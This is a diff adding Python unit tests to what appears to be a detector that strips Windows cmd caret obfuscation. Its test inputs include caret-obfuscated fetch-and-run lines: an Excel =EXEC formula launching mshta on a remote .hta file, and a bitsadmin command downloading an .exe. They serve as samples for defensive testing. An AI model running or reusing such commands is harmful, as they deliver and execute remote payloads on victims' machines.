@@ -147,6 +147,30 @@ def test_bxor_of_base64_or_hex_without_the_convert_prefix() -> None:
     )
 
 
+# -- cmd carets -------------------------------------------------------------------------------
+
+
+def test_carets_cutting_a_harmless_command() -> None:
+    assert shown("cmd /c t^ype C:\\logs\\a^pp.log") == [
+        ("cmd_caret", "cmd /c type C:\\logs\\app.log")
+    ]
+
+
+def test_caret_stretch_shows_the_cmd_that_runs_it() -> None:
+    line = (
+        '=EXEC("C:\\Windows\\System32\\cmd.exe /v:on /c m^sh^ta h^tt^ps://cdn.example.net/p.hta")'
+    )
+    assert shown(line) == [("cmd_caret", "cmd.exe /v:on /c mshta https://cdn.example.net/p.hta")]
+
+
+def test_caret_line_continuation_inside_a_word() -> None:
+    # A batch file: a caret at the end of a line joins the next line to the word.
+    assert shown(
+        "@echo off\r\nbits^\r\nadmin /transfer j /download https://x.example/a.exe a.exe"
+    ) == [("cmd_caret", "bitsadmin")]
+    assert shown("ping -n 1 loc^\nalhost") == [("cmd_caret", "localhost")]
+
+
 # -- traps -------------------------------------------------------------------------------------
 
 HARMLESS = [
@@ -184,6 +208,10 @@ HARMLESS = [
     'out = "a-b-c".replace(/-/g, "")',
     "t = s.replace(/\\s+/g, ' ')",
     "$x = [Convert]::FromHexString('00ff00ff')",
+    # carets that escape cmd's special characters, and continuation between arguments
+    "echo ^<b^>bold^</b^> ^& more",
+    'findstr /r "^[0-9]" data.txt ^| sort',
+    "robocopy C:\\src D:\\dst ^\r\n  /MIR /R:1",
 ]
 
 
@@ -211,6 +239,8 @@ ADVERSARIAL = {
     "js_reverse_tails": '.split("").reverse().join("")' * (MB // 29),
     "js_reverse_after_quotes": '"' * MB + '.split("").reverse().join("")',
     "js_regex_replace": "'a'.replace(/" + "a" * MB,
+    "caret_continuations": "a^\n" * (MB // 3),
+    "cmd_before_carets": "cmd /c /c /c a^b " * (MB // 17),
     "bxor_hex_calls": "FromHexString('41') -bxor 1 " * (MB // 28),
 }
 
